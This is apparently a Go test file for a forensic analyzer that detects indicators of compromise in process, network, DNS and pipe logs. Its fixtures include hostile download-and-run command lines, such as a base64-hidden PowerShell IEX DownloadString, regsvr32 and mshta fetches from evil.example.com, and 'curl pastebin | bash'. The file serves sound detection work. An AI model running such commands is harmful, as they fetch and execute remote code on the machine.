package ioc

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"forensic/analyzers"
	"forensic/analyzers/analyzertest"
	"forensic/analyzers/finding"
)

// titles lists findings as "severity title: subject".
func titles(p *analyzers.Pass) []string {
	out := []string{}
	for _, f := range p.Findings {
		out = append(out, f.Severity.String()+" "+f.Title+": "+f.Facts[0].Value)
	}
	slices.Sort(out)
	return out
}

func TestIndicators(t *testing.T) {
	hidden := base64.StdEncoding.EncodeToString([]byte("iex (New-Object Net.WebClient).DownloadString('http://203.0.113.77/'); ping 198.51.100.5"))
	settings := base64.StdEncoding.EncodeToString([]byte(`{"gateway":"198.51.100.20","mask":24,"version":"1.2"}`))
	at := time.Unix(100, 0).UTC()
	p := analyzertest.Run(t, Analyzer,
		analyzertest.Row{"class": "process_start", "dataset": "d", "host_name": "h", "ts": at, "process_command_line": "x " + hidden + " y " + settings + " http://files.example.com/a"},
		analyzertest.Row{"class": "network", "dataset": "d", "host_name": "h", "process_name": "powershell.exe", "destination_ip": "203.0.113.77", "destination_port": 443},
		analyzertest.Row{"class": "network", "dataset": "d", "host_name": "h", "process_name": "powershell.exe", "destination_ip": "10.0.0.1", "destination_port": 443},
		analyzertest.Row{"class": "network", "dataset": "d", "host_name": "h", "process_name": "firefox.exe", "destination_ip": "203.0.113.1", "destination_port": 443},
		analyzertest.Row{"class": "dns", "host_name": "h2", "dns_question_name": "Files.Example.com."},
		analyzertest.Row{"class": "pipe", "pipe_name": `\evil`},
		analyzertest.Row{"class": "other", "message": "Failed password for root from 198.51.100.9 port 22"},
		analyzertest.Row{"class": "other", "message": "not 198.51.100.10", "event_channel": "System"},
	)
	want := []string{
		"high Address hidden in encoded content was contacted: 203.0.113.77",
		"low Address hidden in encoded content: 198.51.100.20",
		"low Script host or living-off-the-land program contacts the outside: powershell.exe to 203.0.113.77",
		"medium Address hidden in encoded content: 198.51.100.5",
	}
	if diff := cmp.Diff(want, titles(p)); diff != "" {
		t.Error(diff)
	}
	var rows []string
	for _, e := range p.Exhibits {
		for _, r := range e.Table.Rows {
			rows = append(rows, strings.Join(slices.Concat(r[:4], r[5:8], r[10:11]), "|"))
		}
	}
	wantRows := []string{
		"url|http://203.0.113.77/|||process_command_line|base64 > utf-8|yes|h",
		"ipv4|203.0.113.77|documentation||destination_ip, process_command_line|base64 > utf-8||h",
		"ipv4|198.51.100.20|documentation||process_command_line|base64 > utf-8|yes|h",
		"ipv4|198.51.100.5|documentation||process_command_line|base64 > utf-8|yes|h",
		"url|http://files.example.com/a||example.com|process_command_line|||h",
		"ipv4|198.51.100.9|documentation||message|||?",
		"ipv4|203.0.113.1|documentation||destination_ip|||h",
		"ipv4|10.0.0.1|private||destination_ip|||h",
		"dns|files.example.com||example.com|dns_question_name, process_command_line|||h, h2",
		`pipe|\evil|||pipe_name|||?`,
	}
	if diff := cmp.Diff(wantRows, rows); diff != "" {
		t.Error(diff)
	}
	if f := p.Findings[0]; len(f.Evidence) == 0 || f.Host != "h" || f.First != 100e6 {
		t.Errorf("%+v", f)
	}
}

// TestCommands runs one command line at a time; an empty want is a near miss.
func TestCommands(t *testing.T) {
	const fetches, nameless = "Command fetches code by URL: ", "Command fetches code from an address without a name: "
	for command, want := range map[string][]string{
		`regsvr32 /s /u /i:http://10.10.10.5:8444/launcher.sct scrobj.dll`:             {"high " + nameless + "10.10.10.5"},
		`powershell IEX (New-Object Net.WebClient).DownloadString('http://1.2.3.4/a')`: {"high " + nameless + "1.2.3.4"},
		`curl -o a.exe http://192.168.1.5/a.exe`:                                       {"medium " + nameless + "192.168.1.5"},
		`mshta.exe https://evil.example.com/go`:                                        {"medium " + fetches + "evil.example.com"},
		`wmic os get /format:"https://evil.example.com/x.xsl"`:                         {"medium " + fetches + "evil.example.com"},
		`mshta https://evil.example.com/x.hta`:                                         {"medium " + fetches + "evil.example.com"},
		`iwr https://www.example.com/setup.msi -outfile setup.msi`:                     {"low " + fetches + "www.example.com"},
		`iwr https://download.microsoft.com/setup.exe`:                                 {"low " + fetches + "download.microsoft.com"},
		`curl https://www.example.com/index.html`:                                      {},
		`chrome.exe http://10.1.1.1/setup.exe.html`:                                    {},
		`curl http://127.0.0.1/a.ps1`:                                                  {},
		`start http://3232235777/`:                                                     {"medium URL with a disguised address: 192.168.1.1"},
		`curl https://pastebin.com/raw/abc | bash`:                                     {"low Public service for pasting, sharing or tunnels: pastebin.com", "medium " + fetches + "pastebin.com"},
		`curl x expyuzz4wqqyqhjn.onion`:                                                {"medium Hidden service of Tor: expyuzz4wqqyqhjn.onion"},
		`git clone https://bob:secret@git.example.com/x https://bob@git.example.com/y`: {"low Password in a URL: git.example.com"},
		`pay 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa`:                                       {"low Bitcoin address in a command or script: 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"},
	} {
		p := analyzertest.Run(t, Analyzer, analyzertest.Row{"class": "process_start", "process_command_line": command})
		if diff := cmp.Diff(want, titles(p)); diff != "" {
			t.Errorf("%s: %s", command, diff)
		}
	}
	p := analyzertest.Run(t, Analyzer, analyzertest.Row{"class": "script_block", "script_text": "# Example: IEX (DownloadString('http://1.2.3.4/a'))"})
	if diff := cmp.Diff([]string{"medium " + nameless + "1.2.3.4"}, titles(p)); diff != "" {
		t.Error(diff)
	}
}

func TestNothing(t *testing.T) {
	if p := analyzertest.Run(t, Analyzer, analyzertest.Row{"class": "process_start", "process_command_line": "notepad"}); len(p.Findings)+len(p.Exhibits) != 0 {
		t.Errorf("%+v", p)
	}
}

func TestBounds(t *testing.T) {
	var rows []analyzertest.Row
	for i := range 5 {
		rows = append(rows, analyzertest.Row{"class": "process_start", "process_command_line": fmt.Sprintf("mshta http://1.2.3.%d/x.hta", i+1)})
	}
	bounded := analyzers.New(Analyzer.Meta, Options{MaxRows: 2, MaxIndicators: 8, MaxFindings: 3}, run)
	p := analyzertest.Run(t, bounded, rows...)
	if len(p.Findings) != 3 || len(p.Warnings) != 2 || !p.Partial || len(p.Exhibits[0].Table.Rows) != 2 || p.Exhibits[0].Table.Total != 8 {
		t.Errorf("%d findings, %q, %d of %d rows", len(p.Findings), p.Warnings, len(p.Exhibits[0].Table.Rows), p.Exhibits[0].Table.Total)
	}
	if p.Findings[0].Severity != finding.High {
		t.Error(p.Findings[0].Severity)
	}
}

// BenchmarkAnalyzer reads generated process starts and connections.
func BenchmarkAnalyzer(b *testing.B) {
	var rows []analyzertest.Row
	size := 0
	for i := range 20_000 {
		line := fmt.Sprintf(`"C:\Program Files\Tool %d\tool.exe" --server https://host%d.example.com:8443/api?id=%d --log C:\logs\%d.log`, i%50, i%700, i, i)
		size += len(line)
		rows = append(rows, analyzertest.Row{"class": "process_start", "host_name": fmt.Sprintf("h%d", i%20), "process_command_line": line, "destination_ip": fmt.Sprintf("10.0.%d.%d", i%7, i%250)})
	}
	data := analyzertest.Data(b, rows...)
	b.SetBytes(int64(size))
	for b.Loop() {
		if err := Analyzer.Run(b.Context(), &analyzers.Pass{Data: data, Workers: 2}); err != nil {
			b.Fatal(err)
		}
	}
}
